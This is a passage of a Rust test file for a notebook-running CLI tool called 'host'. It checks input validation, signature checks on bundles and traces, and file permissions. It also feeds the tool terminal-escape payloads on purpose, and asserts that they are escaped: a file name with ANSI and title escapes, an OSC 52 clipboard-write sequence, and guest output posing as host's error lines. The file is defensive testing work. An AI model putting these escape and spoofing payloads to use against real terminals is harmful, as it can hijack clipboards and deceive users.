    let (key_a, key_b) = (fx.path("a.key"), fx.path("b.key"));
    std::fs::write(&key_a, "0123456789abcdef-a").unwrap();
    std::fs::write(&key_b, "0123456789abcdef-b").unwrap();
    let unsigned = fx.path("unsigned.bundle.json");
    let signed = fx.path("signed.bundle.json");
    host(&[
        "bundle",
        &nb,
        "-f",
        "f",
        "--no-image",
        "-o",
        unsigned.to_str().unwrap(),
    ])
    .fails(0, &[]);
    host_in(
        &[
            "bundle",
            &nb,
            "-f",
            "f",
            "--no-image",
            "-o",
            signed.to_str().unwrap(),
        ],
        None,
        &[("HOST_SIGNING_KEY", &key_a)],
    )
    .fails(0, &[]);
    let trace = fx.path("signed.trace");
    host_in(
        &["run", &nb, "f", "--record", trace.to_str().unwrap()],
        None,
        &[("HOST_SIGNING_KEY", &key_a)],
    )
    .fails(0, &[]);
    let dir = fx.dir.path().to_str().unwrap();
    let s = |p: &Path| p.to_str().unwrap().to_owned();
    let key = |p: &Path| vec![("HOST_SIGNING_KEY", p.to_owned())];
    let cache = |p: &Path| vec![("HOST_CACHE_DIR", p.to_owned())];
    let evil = fx.path("\x1b[31mevil\x1b]0;title\x07.ipynb");
    std::fs::copy(&fx.notebook, &evil).unwrap();
    let escapes =
        Fixture::code(&["TITLE = '\x1b]0;pwned\x07\x1b[2J'\ndef g():\n    return {TITLE: 1}"]);
    let big_input = format!("{{\"args\": [\"{}\"]}}", "x".repeat(2000));
    #[rustfmt::skip]
    let cases: Vec<CliCase> = vec![
        ("a device as the notebook", vec!["run".into(), "/dev/zero".into(), "f".into()], None, vec![], (2, "not a regular file")),
        ("a FIFO as the notebook", vec!["run".into(), s(&fifo), "f".into()], None, vec![], (2, "not a regular file")),
        ("a folder as the notebook", vec!["run".into(), dir.into(), "f".into()], None, vec![], (2, "is a directory")),
        ("a 300 MB notebook", vec!["run".into(), s(&big), "f".into()], None, vec![], (2, "larger than 256 MiB")),
        ("a device to inspect", vec!["inspect".into(), "/dev/zero".into()], None, vec![], (2, "not a regular file")),
        ("a device as the input", vec![ "run".into(), nb.clone(), "f".into(), "--input".into(), "/dev/zero".into(), ], None, vec![], (2, "not a regular file")),
        ("a FIFO as the input", vec![ "run".into(), nb.clone(), "f".into(), "--input".into(), s(&fifo), ], None, vec![], (2, "not a regular file")),
        ("an input past --max-input", vec![ "run".into(), nb.clone(), "f".into(), "--input".into(), s(&input), "--max-input".into(), "10".into(), ], None, vec![], (2, "larger than 10 bytes")),
        ("stdin past --max-input", vec![ "run".into(), nb.clone(), "f".into(), "--input".into(), "-".into(), "--max-input".into(), "1K".into(), ], Some(&big_input), vec![], (2, "stdin is larger than 1 KiB")),
        ("--args past --max-input", vec![ "run".into(), nb.clone(), "f".into(), "--args".into(), "[\"xxxxxxxxxxxxxxxxxxxxxx\"]".into(), "--max-input".into(), "16".into(), ], None, vec![], (2, "larger than 16 bytes")),
        ("a device as the trace", vec!["replay".into(), "/dev/zero".into()], None, vec![], (2, "not a regular file")),
        ("a folder as the trace", vec!["replay".into(), dir.into()], None, vec![], (2, "is a directory")),
        ("two grants at one guest path", vec![ "run".into(), nb.clone(), "f".into(), "--grant".into(), format!("{}:/data", s(&world.path("ro"))), "--grant".into(), format!("{}:/data:rw", s(&world.path("rw"))), ], None, vec![], (2, "two grants name the guest path `/data`")),
        ("a grant on //usr/local/lib", vec![ "run".into(), nb.clone(), "f".into(), "--grant".into(), format!("{}://usr/local/lib", s(&world.path("ro"))), ], None, vec![], (2, "is reserved")),
        ("a grant on /usr//local/lib/python3.15", vec![ "run".into(), nb.clone(), "f".into(), "--grant".into(), format!("{}:/usr//local/lib/python3.15", s(&world.path("ro"))), ], None, vec![], (2, "is reserved")),
        ("a timeout past any number", vec![ "run".into(), nb.clone(), "f".into(), "--timeout".into(), "99999999999999999999".into(), ], None, vec![], (2, "at most 24h")),
        ("a cache folder that is a file", vec!["run".into(), nb.clone(), "f".into()], None, cache(&a_file), (2, "as host's cache folder")),
        ("a cache folder that is a dangling link", vec!["run".into(), nb.clone(), "f".into()], None, cache(&dangling), (2, "as host's cache folder")),
        ("a trace into a missing folder", vec![ "run".into(), nb.clone(), "f".into(), "--record".into(), s(&fx.path("missing/t.trace")), ], None, vec![], (2, "does not exist")),
        ("a bundle into a missing folder", vec![ "bundle".into(), nb.clone(), "-o".into(), s(&fx.path("missing/b.json")), ], None, vec![], (2, "does not exist")),
        ("a signing key too short", vec!["run".into(), nb.clone(), "f".into()], None, key(&short_key), (2, "at least 16 random bytes")),
        ("an unsigned bundle under a key", vec!["run".into(), s(&unsigned), "f".into()], None, key(&key_a), (2, "it is not signed")),
        ("a bundle signed with another key", vec!["run".into(), s(&signed), "f".into()], None, key(&key_b), (2, "signature does not match")),
        ("a bundle inspected under another key", vec!["inspect".into(), s(&signed)], None, key(&key_b), (2, "signature does not match")),
        ("a trace signed with another key", vec!["replay".into(), s(&trace)], None, key(&key_b), (2, "signature does not match")),
        ("a signed bundle under its key", vec!["run".into(), s(&signed), "f".into()], None, key(&key_a), (0, "")),
        ("a signed trace under its key", vec!["replay".into(), s(&trace)], None, key(&key_a), (0, "replay identical")),
        ("a notebook whose cells hold escapes, inspected", vec!["inspect".into(), s(&escapes.notebook)], None, vec![], (0, "")),
        ("a result whose keys hold escapes", vec!["run".into(), s(&escapes.notebook), "g".into()], None, vec![], (0, "")),
        ("a notebook named with escapes", vec!["run".into(), s(&evil), "nosuch".into()], None, vec![], (2, "host: \\x1b[31mevil\\x1b]0;title\\x07.ipynb defines no function `nosuch`")),
        // Redirected, the guest's output is written as printed; host's lines stay its own.
        ("guest escapes into a pipe", vec!["run".into(), nb.clone(), "f".into()], None, vec![], (0, "\x1b]52;c;cHduZWQ=\x07\x1b[2Jhost: internal error: fake\r")),
    ];
    let mut failures = Failures::default();
    let before = world.snapshot();
    for (case, args, stdin, env, expect) in &cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let env: Vec<(&str, &Path)> = env.iter().map(|(k, v)| (*k, v.as_path())).collect();
        let run = if env.is_empty() {
            host_with_stdin(&args, *stdin)
        } else {
            host_in(&args, *stdin, &env)
        };
        if run.stderr.contains("panicked") {
            failures
                .0
                .push(format!("{case}: host panicked:\n{}", run.stderr));
        }
        // Whatever they quote, host's own lines cannot drive the terminal, nor can stdout.
        if run.stdout.contains('\x1b') {
            failures
                .0
                .push(format!("{case}: an escape on stdout {:?}", run.stdout));
        }
        let mut host_lines = run.stderr.lines().filter(|l| l.starts_with("host:"));
        if let Some(line) = host_lines.find(|l| l.contains(char::is_control)) {
            failures.0.push(format!(
                "{case}: a control character in host's line {line:?}"
            ));
        }
        failures.check(case, *expect, (run.code, &run.stderr));
        failures.unchanged(case, &world, &before);
    }
    failures.assert_none(cases.len(), started);
}

#[test]
fn traces_and_bundles_are_written_owner_only_whatever_was_there() {
    use std::os::unix::fs::PermissionsExt;
    let fx = Fixture::code(&["def f():\n    return 1"]);
    let nb = fx.notebook.to_str().unwrap();
    for (flag, name, command) in [
        ("--record", "t.trace", "run"),
        ("-o", "b.bundle.json", "bundle"),
    ] {
        let path = fx.path(name);
        std::fs::write(&path, "old").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        let mut args = vec![command, nb];
        if command == "run" {
            args.push("f");
        } else {
            args.push("--no-image");
        }
        args.extend([flag, path.to_str().unwrap()]);
        let run = host(&args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{name}");
        assert_ne!(std::fs::read(&path).unwrap(), b"old");
    }
    let names: Vec<String> = std::fs::read_dir(fx.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!names.iter().any(|n| n.ends_with(".tmp")), "{names:?}");
}

#[test]
fn guest_output_on_a_terminal_is_escaped_and_cannot_pose_as_host() {
    let fx = Fixture::code(&[
        "def f():\n    print('\\x1b[2J\\x1b]52;c;cHduZWQ=\\x07')\n    print('host: internal error: fake')\n    return 1",
    ]);
    // `script` gives host a terminal for its stdout and stderr.
    let command = format!(
        "{} run {} f",
        env!("CARGO_BIN_EXE_host"),
        fx.notebook.display()
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env("HOST_CACHE_DIR", cache_dir())
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains("\\x1b[2J\\x1b]52;c;cHduZWQ=\\x07"),
        "{text:?}"
    );
    assert!(
        text.contains("(guest) host: internal error: fake"),
        "{text:?}"
    );
    assert!(
        !text.contains('\x1b'),
        "an escape reached the terminal: {text:?}"
    );
}
